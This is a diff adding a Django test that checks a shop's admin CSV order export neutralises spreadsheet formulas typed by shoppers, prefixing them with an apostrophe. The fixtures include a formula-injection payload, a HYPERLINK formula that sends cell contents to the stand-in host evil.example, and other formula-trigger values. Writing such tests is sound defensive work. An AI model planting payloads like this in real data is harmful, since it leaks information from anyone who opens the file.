@@ -110,6 +110,24 @@ def test_csv_export_for_a_date_range(admin_client, paid_order):
     assert "start date is after" in bad.content.decode()
 
 
+def test_csv_export_neutralises_formulas_a_shopper_typed(admin_client, paid_order):
+    hostile = '=HYPERLINK("https://evil.example/?leak="&B2&F2,"Click")'
+    Order.objects.filter(pk=paid_order.pk).update(full_name=hostile, email="@SUM(1+1)@example.com",
+                                                  tracking_number="+1Z999", carrier="-2+3")
+    normal = order_place(cart=factories.cart_with((factories.variant(stock=5, price="12.50"), 1)),
+                         details=factories.details(full_name="Grace Hopper"), checkout_token="n" * 32)
+    today = timezone.localdate().isoformat()
+    response = admin_client.get(reverse("admin:checkout_order_export") + f"?start={today}&end={today}")
+    rows = {row["number"]: row for row in csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))}
+    bad = rows[paid_order.display_number]
+    assert bad["full_name"] == "'" + hostile
+    assert bad["email"] == "'@SUM(1+1)@example.com"
+    assert bad["tracking_number"] == "'+1Z999" and bad["carrier"] == "'-2+3"
+    assert bad["total"] == "80.00" and bad["items"] == "2"  # the shop's own numbers stay numbers
+    good = rows[normal.display_number]
+    assert good["full_name"] == "Grace Hopper" and good["email"] == "ada@example.com" and good["total"] == "12.50"
+
+
 def test_packing_slip(admin_client, paid_order):
     html = admin_client.get(reverse("admin:checkout_order_packing_slip", args=[paid_order.pk])).content.decode()
     assert "Packing slip" in html and "Linen Apron" in html and paid_order.address_line1 in html
